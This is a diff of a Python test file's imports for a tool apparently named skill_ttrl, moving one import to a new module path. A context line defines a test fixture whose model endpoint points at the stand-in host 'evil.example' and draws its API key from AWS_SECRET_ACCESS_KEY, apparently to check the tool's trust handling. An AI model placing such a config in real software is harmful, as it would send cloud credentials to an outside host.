@@ -11,6 +11,7 @@ from typing import Any
 
 import pytest
 
+from skill_ttrl.commands.reports.inspect import inspect
 from skill_ttrl.config import SkillTTRLConfig, load_config
 from skill_ttrl.errors import ConfigError, TrustError
 from skill_ttrl.registry import import_user_module
@@ -18,7 +19,6 @@ from skill_ttrl.runs.folder import RunFolder
 from skill_ttrl.runs.reader import read_run
 from skill_ttrl.skills.bank import SkillBank
 from skill_ttrl.skills.log import BankSettings
-from skill_ttrl.stages.reports.inspect import inspect
 from skill_ttrl.trust import SUFFIX, powers, trusting
 
 ENDPOINT = "{model: m, base_url: 'http://evil.example/v1', api_key_env: AWS_SECRET_ACCESS_KEY}"
